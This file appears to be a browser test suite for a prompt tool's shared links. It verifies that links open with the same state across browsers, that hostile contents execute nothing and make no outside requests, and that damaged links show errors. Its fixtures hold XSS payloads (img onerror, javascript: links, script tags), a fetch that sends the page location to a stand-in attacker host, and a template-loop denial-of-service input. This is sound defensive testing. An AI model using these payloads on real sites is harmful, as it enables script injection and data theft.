// Shared links: made in Chromium, opened in all browsers with the same state; those that are damaged or hostile.
import assert from 'node:assert/strict';
import { after, before, beforeEach, describe, it } from 'node:test';
import { deflateRawSync } from 'node:zlib';
import { openIn, browsers, servedPage } from './drivers.mjs';

const key = 'a-key-that-links-never-see';
const host = 'https://attacker.test';

let server;
let url;
before(async () => {
  server = await servedPage();
  [url] = server.urls;
});
after(() => server?.close());

const fragmentOf = (document) =>
  `#d1.${deflateRawSync(JSON.stringify(document)).toString('base64url')}`;

const call = { functionCall: { name: 'leak', args: {} }, thoughtSignature: 'QUJD' };
const turns = [
  { kind: 'user', content: { role: 'user', parts: [{ text: 'Hello' }] } },
  {
    kind: 'model',
    content: {
      role: 'model',
      parts: [
        {
          text: `<img src=${host}/a onerror="document.title='bad'">\n![](${host}/b.png) [c](javascript:document.title='bad')`,
        },
        call,
      ],
    },
  },
];

const base = (view) => ({
  version: 1,
  view,
  settings: {
    model: 'gemini-2.5-pro',
    backend: 'gemini',
    generationConfig: '{"temperature": 0.5}',
    tools: '',
    caching: true,
  },
  lint: { text: '{"contents": []}' },
  prompt: {
    static: 'You are {{ name }}.',
    dynamic: '',
    variables: '{"name": "Ada"}',
    placement: 'before-current-turn',
  },
  chat: { saved: '' },
});

const script = `document.title = 'bad'; fetch('${host}/' + location); for (;;) {}`;
const tool = { name: 'leak', description: script };
const hostile = (view) => ({
  ...base(view),
  settings: { ...base(view).settings, model: `${host}/x?`, tools: JSON.stringify([tool]) },
  lint: { text: `<script>document.title='bad'</script><img src="${host}/a">` },
  prompt: {
    ...base(view).prompt,
    static: `{% for i in range(100000000) %}{{ i }}{% endfor %}<img src="${host}/a">`,
  },
  chat: {
    saved: turns.map((turn) => `${JSON.stringify({ strata: 1, ...turn })}\n`).join(''),
  },
});

const modelIn = (page) =>
  page.evaluate(() => document.querySelector('.in-use .model')?.textContent);
const isShared = (page) => page.waitForText('.guide', 'This is a copy of a shared link.');

for (const name of browsers) {
  describe(`a shared link in ${name}`, () => {
    let page;
    before(async () => {
      page = await openIn(name);
      page.url = url;
    });
    after(() => page?.close());
    beforeEach(() => page.fresh());

    it('shows the state of the page that made it', async () => {
      const link = await linkFromChromium();
      await page.goto(link);
      await isShared(page);
      await page.waitForText('.view:not([hidden])', 'contents.empty');
      assert.equal(await modelIn(page), 'gemini-2.5-pro');
      await page.click('[role=tab]:nth-of-type(2)');
      await page.waitForText('.view:not([hidden])', 'You are {{ name }}.');
      assert.deepEqual(await page.complaints(), []);
      assert.deepEqual(await page.origins(), [new URL(url).origin]);
    });

    it('runs nothing and asks nobody, whatever it holds', async () => {
      await page.goto();
      await page.waitFor('.in-use');
      await page.evaluate((value) => sessionStorage.setItem('prompt-strata key', value), key);
      for (const view of ['lint', 'prompt', 'chat']) {
        await page.goto(fragmentOf(hostile(view)));
        await page.reload();
        await isShared(page);
        await page.waitFor('.view:not([hidden]) *');
        await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 500)));
        assert.equal(await page.evaluate(() => document.title.includes('bad')), false);
      }
      assert.deepEqual(await page.origins(), [new URL(url).origin]);
      const stored = await page.evaluate(() => sessionStorage.getItem('prompt-strata key'));
      assert.equal(stored, key);
    });

    it('says why it does not open, and keeps the own session', async () => {
      await page.goto();
      await page.waitFor('.in-use');
      const link = fragmentOf(base('lint'));
      const damaged = {
        [link.slice(0, -12)]: /This link is damaged/,
        [link.replace('#d1', '#d0')]: /older version/,
        [link.replace('#d1', '#d9')]: /newer version/,
        [fragmentOf(`${' '.repeat(17_000_000)}`)]: /more than 16 MB/,
        [fragmentOf({ ...base('lint'), host })]: /This link is damaged: .*host/,
      };
      for (const [fragment, message] of Object.entries(damaged)) {
        await page.goto(fragment);
        await page.waitFor('.guide [role=alert]');
        const isShown = (source) =>
          new RegExp(source).test(document.querySelector('.guide [role=alert]')?.textContent);
        await page.waitFor(isShown, message.source);
        assert.equal(await modelIn(page), 'gemini-3.8-flash');
      }
      assert.deepEqual(await page.complaints(), []);
    });
  });
}

let made;

/** Returns the fragment of a link that the dialog Share of Chromium made. */
async function linkFromChromium() {
  made ??= (async () => {
    const page = await openIn('Chromium');
    try {
      page.url = url;
      await page.goto(fragmentOf(base('lint')));
      await isShared(page);
      await page.evaluate(() =>
        [...document.querySelectorAll('#bar button')]
          .find((one) => one.textContent === 'Share')
          .click(),
      );
      await page.waitFor(() => document.querySelector('#link')?.value.includes('#d1.'));
      const link = await page.evaluate(() => document.querySelector('#link').value);
      return new URL(link).hash;
    } finally {
      await page.close();
    }
  })();
  return made;
}
